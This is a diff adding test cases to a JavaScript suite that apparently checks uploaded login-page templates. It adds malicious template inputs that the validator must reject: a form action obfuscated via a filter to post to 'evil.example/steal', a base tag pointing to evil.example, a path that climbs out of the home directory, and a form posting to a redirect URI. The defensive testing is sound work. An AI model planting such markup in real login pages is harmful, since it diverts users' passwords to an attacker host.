@@ -165,6 +165,26 @@ describe('refused without an event', () => {
       { archive: archiveOf({ 'parts/a.html': '<form action="{{ home }}/login"><button formaction="https://evil.example">' }) },
       'INVALID_VALUE input.archive',
     ],
+    [
+      'security L1: an attribute that is only written when the page is shown',
+      { archive: archiveOf({ 'login.html': `<form {{ 'act' | append: 'ion' }}="https://evil.example/steal" action="{{ home }}/login"></form>` }) },
+      'INVALID_VALUE input.archive',
+    ],
+    [
+      'security L1: the address of the client on the page with the password',
+      { archive: archiveOf({ 'login.html': '<form method="post" action="{{ redirectUri }}"></form>' }) },
+      'INVALID_VALUE input.archive',
+    ],
+    [
+      'security L1: a path that climbs out',
+      { archive: archiveOf({ 'login.html': '<form method="post" action="{{ home }}/../elsewhere"></form>' }) },
+      'INVALID_VALUE input.archive',
+    ],
+    [
+      'security L1: another base for all addresses',
+      { archive: archiveOf({ 'login.html': '<base href="https://evil.example"><form method="post" action="{{ home }}/login"></form>' }) },
+      'INVALID_VALUE input.archive',
+    ],
     ['an unknown filter', { archive: archiveOf({ 'login.html': '{{ username | system }}' }) }, 'INVALID_VALUE input.archive'],
     ['a name with a slash', { name: 'a/b', archive: archiveOf({ 'login.html': 'x' }) }, 'INVALID_VALUE input.name'],
   ])('%s', async (_what, input, fault) => {
